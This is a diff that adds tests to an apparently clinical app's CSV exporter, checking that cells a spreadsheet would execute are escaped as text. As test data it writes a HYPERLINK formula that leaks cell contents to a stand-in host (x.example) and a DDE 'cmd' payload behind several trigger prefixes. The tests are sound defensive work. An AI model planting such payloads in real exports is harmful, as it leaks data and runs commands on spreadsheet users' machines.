@@ -282,3 +282,28 @@ def test_csv_round_trips_names_with_accents_commas_and_quotes(tmp_path, pack):
     export.write_csv([record], tmp_path / "a.csv", pack)
     assert _read(tmp_path / "a.csv")[1][7] == 'Müller, "TUG" study'
     assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets see UTF-8
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, pack_copy):
+    from legapp.content.loader import load_pack
+
+    protocol = pack_copy / "protocols" / "chair-stand-30s.yaml"
+    text = protocol.read_text(encoding="utf-8")
+    title = next(line for line in text.splitlines() if line.startswith("title: "))
+    protocol.write_text(text.replace(title, 'title: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Open\\")"', 1),
+                        encoding="utf-8")
+    hostile = load_pack(pack_copy)
+    chair = next(r for r in sample_records() if r.test == "chair_stand_30s")
+    records = [dataclasses.replace(chair, source=start + "cmd|' /C calc'!A0", id=n)
+               for n, start in enumerate(("=", "+", "-", "@", "\t", "\r"))]
+    export.write_csv(records, tmp_path / "a.csv", hostile)
+    _header, *rows = _read(tmp_path / "a.csv")
+    assert {row[2] for row in rows} == {'\'=HYPERLINK("http://x.example/?"&A1,"Open")'}
+    assert sorted(row[7] for row in rows) == sorted("'" + start + "cmd|' /C calc'!A0"
+                                                    for start in ("=", "+", "-", "@", "\t", "\r"))
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_csv_plain_numbers_stay_numbers():
+    assert [export.safe_cell(x) for x in ("-2.5", "+3", "11", "1e-3", "-", "-1+2", "=1")] == [
+        "-2.5", "+3", "11", "1e-3", "'-", "'-1+2", "'=1"]
